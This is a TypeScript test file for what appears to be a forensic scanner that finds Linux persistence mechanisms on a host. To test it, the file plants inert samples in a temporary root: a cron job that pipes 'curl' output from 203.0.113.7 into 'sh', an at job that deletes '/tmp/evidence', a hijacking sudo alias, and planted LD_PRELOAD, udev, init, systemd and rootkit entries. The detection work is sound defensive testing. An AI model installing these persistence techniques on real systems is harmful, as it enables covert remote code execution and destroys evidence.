import { execFileSync, spawnSync } from "node:child_process";
import {
  appendFileSync,
  existsSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { rootOf } from "../../agent/modules/persistence/entry.js";
import { persistenceModule } from "../../agent/modules/persistence/index.js";
import {
  GLOBAL_USER_UNIT_DIRS,
  SYSTEM_UNIT_DIRS,
  scanUnits,
} from "../../agent/modules/persistence/systemd.js";
import { silentLogger } from "../../common/mod.js";
import { PersistenceParams, type PersistenceResult } from "../../proto/api.js";
import { tempDir } from "../helpers/fleet.js";

// persistence in a root the test builds: a systemd unit tree whose states
// must equal `systemctl list-unit-files --root` over the same tree; crontabs,
// an at job, init scripts, rc.local, shell startup files, ld.so.preload, udev
// rules and kernel modules, some "owned" by a fake package in the root's dpkg
// database and some not — --unowned returns exactly the ones no package owns,
// and every hash equals sha256sum's. On the machine, kernel modules equal
// lsmod's (where the kernel has modules).

const ctx = { signal: new AbortController().signal, log: silentLogger, stateDir: "/nonexistent" };
let root: string;
const sh = (cmd: string, args: string[]) => execFileSync(cmd, args, { encoding: "utf8" });
const md5 = (path: string) => sh("md5sum", [path]).split(" ")[0]!;

async function persistence(p: Partial<PersistenceParams>): Promise<PersistenceResult> {
  const params = PersistenceParams.fromPartial(p);
  persistenceModule.check(params);
  return (await persistenceModule.run(params, ctx)).result;
}

function put(path: string, content: string, mode = 0o644): void {
  mkdirSync(join(root, dirname(path)), { recursive: true });
  writeFileSync(join(root, path), content, { mode });
}

function link(path: string, target: string): void {
  mkdirSync(join(root, dirname(path)), { recursive: true });
  symlinkSync(target, join(root, path));
}

/** The files a fake package owns, listed and checksummed in the root's dpkg database. */
const OWNED = [
  "/etc/crontab",
  "/etc/cron.d/owned-job",
  "/etc/init.d/owned",
  "/etc/profile.d/owned.sh",
  "/usr/lib/systemd/system/owned.service",
  "/usr/lib/udev/rules.d/60-owned.rules",
  "/usr/lib/libowned.so",
  "/lib/modules/6.1.0-test/kernel/drivers/net/dummy.ko",
];

beforeAll(() => {
  root = tempDir("dragnet-persistence-root-");
  put("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
  // cron: system crontab and cron.d (user field), a run-parts script, a user's crontab.
  put("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  put("/etc/cron.d/owned-job", "# from the package\n30 3 * * 0 root /usr/sbin/owned-cleanup\n");
  put("/etc/cron.d/implant", "*/5 * * * * root curl -s http://203.0.113.7/p | sh\n");
  put("/etc/cron.daily/backup", "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n", 0o755);
  put(
    "/var/spool/cron/crontabs/alice",
    "MAILTO=alice\n@reboot /home/alice/.local/bin/agent --quiet\n",
    0o600,
  );
  // at: one queued job (due 0x01a3f2c1 minutes after the epoch).
  put(
    "/var/spool/cron/atjobs/a0000101a3f2c1",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's own syntax, as at writes it
    "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'\nrm -rf /tmp/evidence\nmarcinDELIMITER0a1b2c3d\n",
    0o700,
  );
  // init scripts (one started in runlevel 2) and rc.local.
  put("/etc/init.d/owned", "#!/bin/sh\necho owned\n", 0o755);
  put("/etc/init.d/evil", "#!/bin/sh\n/usr/local/bin/evil &\n", 0o755);
  link("/etc/rc2.d/S01evil", "../init.d/evil");
  put("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/evil --daemon\nexit 0\n", 0o755);
  // Shell startup files: system-wide and alice's (her .profile a copy of /etc/skel's).
  put("/etc/profile.d/owned.sh", "export PAGER=less\n");
  put("/etc/profile.d/evil.sh", "export LD_PRELOAD=/usr/lib/libevil.so\n");
  put("/etc/skel/.profile", "# ~/.profile\n");
  put("/home/alice/.profile", "# ~/.profile\n");
  put("/home/alice/.bashrc", "alias sudo='/tmp/.s'\n");
  // ld.so.preload: one packaged library, one planted.
  put("/usr/lib/libowned.so", "\x7fELF owned\n");
  put("/usr/lib/libevil.so", "\x7fELF evil\n");
  put("/etc/ld.so.preload", "/usr/lib/libowned.so\n# comment\n/usr/lib/libevil.so\n");
  // udev: RUN in a packaged rules file, in a planted one, and a builtin (not a program).
  put(
    "/usr/lib/udev/rules.d/60-owned.rules",
    'ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/owned/net-up $name"\n',
  );
  put(
    "/etc/udev/rules.d/99-evil.rules",
    'ACTION=="add", RUN{program}+="/usr/local/bin/evil"\nACTION=="add", IMPORT{builtin}="path_id", RUN{builtin}+="kmod load $env{MODALIAS}"\n',
  );
  // Kernel modules: a packaged one, and one loaded from a file depmod never saw (out of tree, unsigned).
  put("/proc/sys/kernel/osrelease", "6.1.0-test\n");
  put(
    "/proc/modules",
    "dummy 16384 0 - Live 0x0000000000000000\nrootkit 20480 1 - Live 0x0000000000000000 (OE)\n",
  );
  put("/sys/module/dummy/taint", "\n");
  put("/sys/module/rootkit/taint", "OE\n");
  put("/lib/modules/6.1.0-test/kernel/drivers/net/dummy.ko", "module bytes\n");
  put("/lib/modules/6.1.0-test/modules.dep", "kernel/drivers/net/dummy.ko:\n");

  // systemd: enabled (wants link), disabled, static, masked, an alias, a timer, a drop-in, a user unit.
  const etc = "/etc/systemd/system";
  put(
    "/usr/lib/systemd/system/owned.service",
    "[Service]\nExecStart=/usr/sbin/ownedd\n[Install]\nWantedBy=multi-user.target\nAlias=web.service\n",
  );
  link(`${etc}/multi-user.target.wants/owned.service`, "/usr/lib/systemd/system/owned.service");
  link(`${etc}/web.service`, "/usr/lib/systemd/system/owned.service");
  put(
    `${etc}/implant.service`,
    "[Unit]\nDescription=updates\n[Service]\nUser=nobody\nExecStart=/usr/local/bin/evil --beacon\n[Install]\nWantedBy=multi-user.target\n",
  );
  link(`${etc}/multi-user.target.wants/implant.service`, "/etc/systemd/system/implant.service");
  put(`${etc}/disabled.service`, "[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=multi-user.target\n");
  put(`${etc}/static.service`, "[Service]\nType=oneshot\nExecStart=/bin/echo static\n");
  put("/usr/lib/systemd/system/masked.service", "[Service]\nExecStart=/bin/false\n");
  link(`${etc}/masked.service`, "/dev/null");
  put(
    `${etc}/backup.timer`,
    "[Timer]\nOnCalendar=daily\nOnBootSec=15min\n[Install]\nWantedBy=timers.target\n",
  );
  put(`${etc}/backup.service`, "[Service]\nExecStart=/usr/local/bin/backup\n");
  link(`${etc}/timers.target.wants/backup.timer`, "../backup.timer");
  put(`${etc}/owned.service.d/override.conf`, "[Service]\nExecStart=\nExecStart=/tmp/.x\n");
  put("/home/alice/.config/systemd/user/miner.service", "[Service]\nExecStart=/home/alice/.m\n");

  // The fake package's database; one of its files edited after (its recorded MD5 no longer matches).
  put("/var/lib/dpkg/status", "");
  mkdirSync(join(root, "var/lib/dpkg/updates"), { recursive: true });
  appendFileSync(
    join(root, "var/lib/dpkg/status"),
    "Package: dragnet-fake-base\nStatus: install ok installed\nPriority: optional\nSection: misc\nMaintainer: Test <t@example.org>\nArchitecture: amd64\nVersion: 1.0-1\nDescription: test package\n\n",
  );
  put("/var/lib/dpkg/info/dragnet-fake-base.list", `${OWNED.join("\n")}\n`);
  put(
    "/var/lib/dpkg/info/dragnet-fake-base.md5sums",
    OWNED.map((p) => `${md5(join(root, p))}  ${p.slice(1)}`).join("\n"),
  );
  appendFileSync(join(root, "etc/init.d/owned"), "echo changed\n");
  process.env.DRAGNET_PACKAGE_ROOT = root;
});

afterAll(() => {
  delete process.env.DRAGNET_PACKAGE_ROOT;
  rmSync(root, { recursive: true, force: true });
});

const rel = (path: string) => path.slice(root.length);

describe("persistence in a test root", () => {
  it("gives systemd units the states systemctl list-unit-files --root gives them", async () => {
    const r = await persistence({ kinds: ["systemd"] });
    const units = r.entries.filter((e) => e.state !== "drop-in" && e.user !== "alice");
    const theirs = sh("systemctl", ["list-unit-files", `--root=${root}`, "--no-legend", "--no-pager"])
      .split("\n")
      .filter(Boolean)
      .map((l) => l.split(/\s+/).slice(0, 2).join(" "))
      .sort();
    expect(units.map((e) => `${e.name} ${e.state}`).sort()).toEqual(theirs);
    // The tree has each state the test meant to make.
    expect(theirs).toEqual(
      expect.arrayContaining([
        "owned.service enabled",
        "implant.service enabled",
        "web.service alias",
        "disabled.service disabled",
        "static.service static",
        "masked.service masked",
        "backup.timer enabled",
        "backup.service static",
      ]),
    );
    const implant = r.entries.find((e) => e.name === "implant.service")!;
    expect(implant).toMatchObject({ command: "/usr/local/bin/evil --beacon", user: "nobody", unowned: true });
    expect(r.entries.find((e) => e.name === "backup.timer")).toMatchObject({
      schedule: "OnCalendar=daily OnBootSec=15min",
      command: "→ backup.service",
    });
    expect(r.entries.find((e) => e.name === "owned.service")).toMatchObject({
      path: `${root}/usr/lib/systemd/system/owned.service`,
      package: "dpkg:dragnet-fake-base",
      unowned: false,
    });
    // The alias is judged by the packaged file it names; the mask has no content.
    expect(r.entries.find((e) => e.name === "web.service")).toMatchObject({ unowned: false });
    expect(r.entries.find((e) => e.name === "masked.service")).toMatchObject({ sha256: "", unowned: true });
    expect(r.entries.find((e) => e.state === "drop-in")).toMatchObject({
      name: "owned.service (drop-in)",
      command: "/tmp/.x",
    });
    expect(r.entries.find((e) => e.name === "miner.service")).toMatchObject({
      user: "alice",
      command: "/home/alice/.m",
      state: "static",
    });
  });

  it("returns exactly the entries no package owns with --unowned, each hash equal to sha256sum's", async () => {
    const all = await persistence({});
    const unowned = await persistence({ unowned: true });
    expect(unowned.entries.every((e) => e.unowned && e.package === "")).toBe(true);
    expect(all.entries.filter((e) => e.unowned)).toEqual(unowned.entries);
    const files = (r: PersistenceResult) =>
      [
        ...new Set(r.entries.filter((e) => e.kind !== "systemd").map((e) => `${e.kind} ${rel(e.path)}`)),
      ].sort();
    expect(files(unowned)).toEqual(
      [
        "at /var/spool/cron/atjobs/a0000101a3f2c1",
        "cron /etc/cron.d/implant",
        "cron /etc/cron.daily/backup",
        "cron /var/spool/cron/crontabs/alice",
        "initd /etc/init.d/evil",
        "kernel_module ",
        "ld_preload /usr/lib/libevil.so",
        "rc_local /etc/rc.local",
        "shell /etc/profile.d/evil.sh",
        "shell /home/alice/.bashrc",
        "shell /home/alice/.profile",
        "udev /etc/udev/rules.d/99-evil.rules",
      ].sort(),
    );
    expect(files(all).filter((f) => !files(unowned).includes(f))).toEqual(
      [
        "cron /etc/crontab",
        "cron /etc/cron.d/owned-job",
        "initd /etc/init.d/owned",
        "kernel_module /lib/modules/6.1.0-test/kernel/drivers/net/dummy.ko",
        "ld_preload /usr/lib/libowned.so",
        "shell /etc/profile.d/owned.sh",
        "udev /usr/lib/udev/rules.d/60-owned.rules",
      ].sort(),
    );
    const hashed = all.entries.filter((e) => e.sha256);
    expect(hashed.length).toBeGreaterThan(20);
    for (const e of hashed) {
      const file = e.name === "web.service" ? `${root}/usr/lib/systemd/system/owned.service` : e.path;
      expect([e.path, e.sha256]).toEqual([e.path, sh("sha256sum", [file]).split(" ")[0]]);
    }
  });

  it("reads each source's schedule, user, command and flags", async () => {
    const r = await persistence({
      kinds: ["cron", "at", "initd", "rc_local", "shell", "ld_preload", "udev", "kernel_module"],
    });
    const one = (kind: string, name: string) => r.entries.filter((e) => e.kind === kind && e.name === name);
    expect(one("cron", "implant")).toMatchObject([
      { schedule: "*/5 * * * *", user: "root", command: "curl -s http://203.0.113.7/p | sh" },
    ]);
    expect(one("cron", "alice")).toMatchObject([
      { schedule: "@reboot", user: "alice", command: "/home/alice/.local/bin/agent --quiet" },
    ]);
    expect(one("cron", "backup")).toMatchObject([{ schedule: "@daily", user: "root" }]);
    expect(one("at", "a1")).toMatchObject([
      {
        command: "rm -rf /tmp/evidence",
        state: "queued",
        schedule: new Date(0x01a3f2c1 * 60_000).toISOString(),
      },
    ]);
    expect(one("initd", "evil")).toMatchObject([{ state: "enabled", schedule: "rc2" }]);
    expect(one("initd", "owned")).toMatchObject([{ state: "disabled", flags: ["modified"] }]);
    expect(one("rc_local", "rc.local")).toMatchObject([
      { state: "executable", command: "/usr/local/bin/evil --daemon" },
    ]);
    expect(one("shell", "evil.sh")[0]!.flags).toEqual(["sets-preload"]);
    expect(one("shell", ".profile")[0]!.flags).toEqual(["same-as-skel"]);
    expect(one("shell", ".bashrc")[0]!.flags).toEqual([]);
    expect(r.entries.filter((e) => e.kind === "ld_preload").map((e) => e.name)).toEqual([
      "/usr/lib/libowned.so",
      "/usr/lib/libevil.so",
    ]);
    expect(r.entries.filter((e) => e.kind === "udev").map((e) => [e.name, e.command])).toEqual([
      ["99-evil.rules:1", "/usr/local/bin/evil"],
      ["60-owned.rules:1", "/usr/lib/owned/net-up $name"],
    ]);
    expect(one("kernel_module", "dummy")).toMatchObject([{ state: "loaded", flags: [], unowned: false }]);
    expect(one("kernel_module", "rootkit")).toMatchObject([
      { state: "loaded", flags: ["out-of-tree", "unsigned", "not-in-modules.dep"], unowned: true, path: "" },
    ]);
    // Filters: by kind and by a regex over path, name and command.
    expect((await persistence({ match: "203\\.0\\.113\\.7" })).entries.map((e) => e.name)).toEqual([
      "implant",
    ]);
    expect(() =>
      persistenceModule.check(PersistenceParams.fromPartial({ kinds: ["cron", "bogus"] })),
    ).toThrow(/kind "bogus" is not one of cron/);
    expect(() => persistenceModule.check(PersistenceParams.fromPartial({ match: "(" }))).toThrow(
      /persistence: match regex/,
    );
  });
});

describe("persistence on this machine (read only)", () => {
  it("gives every unit of the machine the state systemctl list-unit-files --root=/ gives it", async () => {
    for (const [scope, dirs] of [
      ["--system", SYSTEM_UNIT_DIRS],
      ["--global", GLOBAL_USER_UNIT_DIRS],
    ] as const) {
      const errors: string[] = [];
      const ours = (await scanUnits(rootOf("/"), dirs, errors))
        .filter((e) => e.state !== "drop-in")
        .map((e) => `${e.name} ${e.state}`)
        .sort();
      const theirs = sh("systemctl", [scope, "list-unit-files", "--root=/", "--no-legend", "--no-pager"])
        .split("\n")
        .filter(Boolean)
        .map((l) => l.split(/\s+/).slice(0, 2).join(" "))
        .sort();
      expect(ours).toEqual(theirs);
      expect(errors).toEqual([]);
    }
  });

  it("lists exactly the kernel modules lsmod lists (none, where the kernel has no modules and lsmod fails)", async () => {
    delete process.env.DRAGNET_PACKAGE_ROOT;
    try {
      const lsmod = spawnSync("lsmod", { encoding: "utf8" });
      expect(lsmod.error, "lsmod (Debian package kmod) is installed").toBeUndefined();
      const r = await persistence({ kinds: ["kernel_module"] });
      if (!existsSync("/proc/modules")) {
        // A kernel built without loadable modules (some VMs and sandboxes): lsmod cannot open /proc/modules.
        expect([lsmod.status !== 0, lsmod.stderr]).toEqual([true, expect.stringContaining("/proc/modules")]);
        expect(r.entries).toEqual([]);
        return;
      }
      const theirs = lsmod.stdout
        .split("\n")
        .slice(1)
        .filter(Boolean)
        .map((l) => l.split(/\s+/)[0])
        .sort();
      expect(r.entries.map((e) => e.name).sort()).toEqual(theirs);
      expect(theirs).toEqual(
        readFileSync("/proc/modules", "utf8")
          .split("\n")
          .filter(Boolean)
          .map((l) => l.split(" ")[0])
          .sort(),
      );
    } finally {
      process.env.DRAGNET_PACKAGE_ROOT = root;
    }
  });
});
